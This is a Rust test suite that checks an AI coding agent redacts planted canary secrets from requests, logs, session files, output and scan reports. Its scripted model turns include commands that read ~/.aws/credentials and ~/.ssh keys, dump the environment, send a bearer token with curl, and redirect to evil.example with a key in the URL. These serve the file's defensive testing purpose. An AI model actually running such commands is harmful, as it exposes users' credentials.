//! Secrets planted everywhere; none of them may reach a request, a log, a session file, the screen or a report.

use crate::house::model::{Fault, ModelServer, Turn, Wire};
use crate::house::stage::{Run, Stage};
use serde_json::json;
use std::path::Path;

/// Secrets of known shapes, put together so that this file holds none.
fn shaped() -> Vec<(&'static str, String)> {
    let mixed = "FAKEcanary0".repeat(8);
    vec![
        ("github", format!("ghp_{}", &mixed[..36])),
        ("aws", format!("AKIA{}", &"FAKE0CANARY1".repeat(2)[..16])),
        ("stripe", format!("sk_live_{}", &mixed[..24])),
        ("slack", format!("xoxb-{}", &mixed[..24])),
        ("url", "FAKE0canary0url".into()),
        ("jwt", format!("eyJ{0}.eyJ{0}.{0}", &mixed[..20])),
        ("key", mixed[..64].into()),
    ]
}

fn text_of(secrets: &[(&str, String)]) -> String {
    let of = |name: &str| secrets.iter().find(|(known, _)| *known == name).unwrap().1.clone();
    format!(
        "GITHUB = \"{}\"\naws_id = '{}'\nstripe = \"{}\"\nslack {}\ndb = \"postgres://u:{}@db/x\"\njwt {}\n\
         -----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n",
        of("github"),
        of("aws"),
        of("stripe"),
        of("slack"),
        of("url"),
        of("jwt"),
        of("key")
    )
}

/// Secrets without a shape, known by where they are.
const PLACED: [&str; 6] = [
    "FAKE-env-file-canary-1",
    "FAKE-aws-file-canary-2",
    "FAKE-ssh-file-canary-3",
    "FAKE-env-variable-canary-4",
    "FAKE-env-variable-canary-5",
    "FAKE-model-canary",
];

fn stage(secrets: &[(&str, String)]) -> Stage {
    let stage = Stage::with(&[
        (".env", &format!("TOKEN={}\n", PLACED[0])),
        ("settings.py", &text_of(secrets)),
        ("app.py", "import settings\n\n\ndef main():\n    return 1\n"),
        // The user left the value of a variable of the environment in a note.
        ("notes.md", &format!("Log in with {} please.\n", PLACED[3])),
    ]);
    for (path, text) in [(".aws/credentials", PLACED[1]), (".ssh/id_ed25519", PLACED[2])] {
        let path = stage.home().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    stage.env(&[("DEPLOY_TOKEN", PLACED[3]), ("DB_PASSWORD", PLACED[4])])
}

/// Checks all that the agent keeps. The journal holds files as they were, to put them back: it may hold what the
/// workspace's own files hold, and nothing of files that are secret by name, of the home or the environment.
#[track_caller]
fn assert_kept_clean(what: &str, home: &Path, secrets: &[(&str, String)]) {
    for (path, bytes) in everything_kept(home) {
        if path.contains("/journal/") {
            let text = String::from_utf8_lossy(&bytes);
            for secret in PLACED.iter().filter(|secret| **secret != PLACED[3]) {
                assert!(!text.contains(secret), "{what}: {secret} in {path}");
            }
        } else {
            assert_clean(&format!("{what}: {path}"), &bytes, secrets);
        }
    }
}

fn everything_kept(home: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut folders = vec![home.join(".local/state"), home.join(".config/agent"), home.join(".cache")];
    while let Some(folder) = folders.pop() {
        let Ok(entries) = std::fs::read_dir(&folder) else { continue };
        for entry in entries {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else {
                out.push((path.display().to_string(), std::fs::read(&path).unwrap()));
            }
        }
    }
    out
}

#[track_caller]
fn assert_clean(what: &str, bytes: &[u8], secrets: &[(&str, String)]) {
    let text = String::from_utf8_lossy(bytes);
    // Split over stream-json lines or not: the pieces of one text are put together again.
    let joined: String = text
        .lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
        .filter_map(|line| line["delta"].as_str().map(ToOwned::to_owned))
        .collect();
    for text in [&*text, &*joined] {
        for (name, secret) in secrets
            .iter()
            .map(|(name, secret)| (*name, secret.as_str()))
            .chain(PLACED.iter().map(|secret| ("placed", *secret)))
        {
            if let Some(at) = text.find(secret) {
                let from = text.floor_char_boundary(at.saturating_sub(120));
                panic!("{name} canary in {what}: …{}…", &text[from..text.floor_char_boundary(at + 60)]);
            }
        }
    }
}

fn turns(secrets: &[(&str, String)]) -> Vec<Turn> {
    let all = text_of(secrets);
    let literal = format!("printf '%s\\n' '{}' {}", secrets[0].1, PLACED[3]);
    vec![
        Turn::calls([
            ("read", json!({"filePath": "settings.py"})),
            ("read", json!({"filePath": ".env"})),
            ("read", json!({"filePath": "notes.md"})),
            ("grep", json!({"pattern": "canary|=|-----", "ignoreCase": true, "context": 3})),
            ("grep", json!({"pattern": secrets[0].1})),
            ("glob", json!({"pattern": "**"})),
            ("scan", json!({})),
        ]),
        Turn::calls([
            ("bash", json!({"command": "cat settings.py notes.md .env ~/.aws/credentials ~/.ssh/id_ed25519 2>/dev/null; env"})),
            ("bash", json!({"command": "cat settings.py | while IFS= read -r -n 7 piece; do printf '%s' \"$piece\"; sleep 0.005; done; cat settings.py"})),
            ("bash", json!({"command": "for i in $(seq 400); do cat settings.py; done"})),
            ("bash", json!({"command": "cat settings.py; sleep 0.2; cat notes.md", "background": true})),
        ])
        .saying(&format!("I found {all} and {} and {} so I go on.", PLACED[3], PLACED[4])),
        Turn::calls([
            ("bash", json!({"command": "sleep 0.8; cat settings.py >&2; exit 3"})),
            ("edit", json!({"filePath": "settings.py", "oldString": "no such text", "newString": all})),
            ("edit", json!({"filePath": "settings.py", "oldString": "jwt ", "newString": "token "})),
            ("write", json!({"filePath": "copy.py", "content": all})),
            ("patch", json!({"patchText": format!("*** Begin Patch\n*** Add File: new.py\n+{}\n*** End Patch", all.replace('\n', "\n+"))})),
            ("patch", json!({"patchText": format!("*** Begin Patch\n*** Update File: settings.py\n@@\n-{}\n+x\n*** End Patch", secrets[0].1)})),
            ("webfetch", json!({"url": format!("https://user:{}@example.com/?key={}", PLACED[3], secrets[0].1)})),
            ("webfetch", json!({"url": format!("http://127.0.0.1:1/{}", secrets[0].1)})),
            ("nonsense", json!({"x": all})),
            ("read", json!({"filePath": secrets[0].1})),
            ("read", json!({"filePath": {"x": secrets[0].1}})),
        ]),
        Turn::call("bash", json!({"command": literal})),
        Turn::call("bash", json!({"command": format!("curl -H 'Authorization: Bearer {}' http://x", secrets[0].1)})),
        Turn::text(format!("Status: done\nThe secrets are {all} {} {}", PLACED[3], PLACED[4])).in_deltas_of(5),
    ]
}

fn check(run: &Run, stage: &Stage, server: &ModelServer, secrets: &[(&str, String)], label: &str) {
    assert!(!server.received().is_empty(), "{label}: {run}");
    assert_clean(&format!("{label}: standard output"), run.stdout.as_bytes(), secrets);
    assert_clean(&format!("{label}: standard error"), run.stderr.as_bytes(), secrets);
    for (at, body) in server.requests().iter().enumerate() {
        assert_clean(&format!("{label}: request {at}"), body, secrets);
    }
    assert_kept_clean(label, stage.home(), secrets);
    let result = std::fs::read(stage.home().join("result.json")).unwrap_or_default();
    assert_clean(&format!("{label}: result file"), &result, secrets);
}

#[test]
fn no_planted_secret_reaches_anything_that_is_kept_sent_or_shown() {
    let secrets = shaped();
    for (wire, format, verb) in [
        (Wire::OpenAi, "stream-json", "run"),
        (Wire::Anthropic, "json", "run"),
        (Wire::OpenAi, "text", "run"),
        (Wire::Anthropic, "stream-json", "fix"),
        (Wire::OpenAi, "text", "fix"),
    ] {
        let server = ModelServer::start_blocking(wire, turns(&secrets));
        let stage = stage(&secrets).env(&server.environment());
        let model = wire.model();
        let result = stage.home().join("result.json").display().to_string();
        let prompt = format!(
            "The token {} is in settings.py ({}); help me. Hardcoded secret.",
            secrets[0].1, PLACED[3]
        );
        let run = stage.agent(&[
            verb,
            &prompt,
            "--model",
            model,
            "--yes",
            "--output-format",
            format,
            "--result",
            &result,
        ]);
        check(&run, &stage, &server, &secrets, &format!("{verb} {format}"));
        // What was written is what was asked for: redaction is for what leaves, not for files.
        if verb == "run" {
            assert_eq!(stage.read("copy.py"), text_of(&secrets), "{run}");
        }
        let list = stage.agent(&["resume", "--list"]);
        assert_clean("resume --list", format!("{}{}", list.stdout, list.stderr).as_bytes(), &secrets);
        let run = stage.agent(&["resume", "--model", model, "--yes", "--output-format", format]);
        assert_clean("resume", format!("{}{}", run.stdout, run.stderr).as_bytes(), &secrets);
    }
}

#[test]
fn a_scan_shows_no_secret_it_found() {
    let secrets = shaped();
    let stage = stage(&secrets);
    for format in ["text", "json", "sarif"] {
        let run = stage.agent(&["scan", ".", "--output-format", format]);
        assert_clean(format, format!("{}{}", run.stdout, run.stderr).as_bytes(), &secrets);
    }
    let run = stage.agent(&[
        "fix",
        "There is a hardcoded secret in settings.py",
        "--yes",
        "--output-format",
        "stream-json",
    ]);
    assert_clean("fix by rules", format!("{}{}", run.stdout, run.stderr).as_bytes(), &secrets);
    assert_kept_clean("scan and fix", stage.home(), &secrets);
}

#[test]
fn a_provider_that_repeats_the_key_does_not_make_it_known() {
    let secrets = shaped();
    for wire in Wire::ALL {
        for fault in [
            Fault::EchoKey(401),
            Fault::EchoKey(400),
            Fault::error(500, "server_error", &format!("dump: {} {}", secrets[0].1, PLACED[3])),
            Fault::ErrorEvent("overloaded_error".into(), format!("dump {} {}", secrets[2].1, PLACED[5])),
            Fault::Redirect(format!("http://evil.example/?k={}", secrets[0].1)),
        ] {
            let server = ModelServer::start_blocking(wire, vec![Turn::text("x").always(fault.clone())]);
            let stage = stage(&secrets).env(&server.environment());
            let model = wire.model();
            let result = stage.home().join("result.json").display().to_string();
            let mut child = stage.command(&[
                "run",
                "x",
                "--model",
                model,
                "--yes",
                "--output-format",
                "stream-json",
                "--result",
                &result,
            ]);
            let child = child
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            let id = child.id().to_string();
            // Retries wait; what was said until then is enough.
            let watch = std::thread::spawn(move || {
                std::thread::sleep(std::time::Duration::from_secs(2));
                let _ = std::process::Command::new("kill")
                    .args(["-INT", &id])
                    .stderr(std::process::Stdio::null())
                    .status();
            });
            let done = child.wait_with_output().unwrap();
            assert_clean(&format!("{fault:?}: output"), &[done.stdout, done.stderr].concat(), &secrets);
            assert_kept_clean(&format!("{fault:?}"), stage.home(), &secrets);
            watch.join().unwrap();
        }
    }
}

#[test]
fn what_is_kept_is_the_owners_alone() {
    use std::os::unix::fs::MetadataExt;
    let server = ModelServer::start_blocking(
        Wire::OpenAi,
        vec![Turn::call("bash", json!({"command": "seq 100000", "background": false})), Turn::text("done")],
    );
    let stage = Stage::with(&[("a.txt", "a\n")]).env(&server.environment());
    stage.agent(&["run", "x", "--model", "openai/scripted", "--yes"]).exits(0);
    let mut folders = vec![stage.home().join(".local/state/agent")];
    let mut seen = 0;
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            let meta = path.metadata().unwrap();
            let own = stage.home().join(".local/state/agent");
            let closed = path
                .ancestors()
                .take_while(|above| **above != *own)
                .all(|above| above.metadata().unwrap().mode() & 0o077 == 0)
                || meta.mode() & 0o077 == 0;
            assert!(closed, "{} has mode {:o}", path.display(), meta.mode());
            seen += 1;
            if meta.is_dir() {
                folders.push(path);
            }
        }
    }
    assert!(seen >= 3);
}
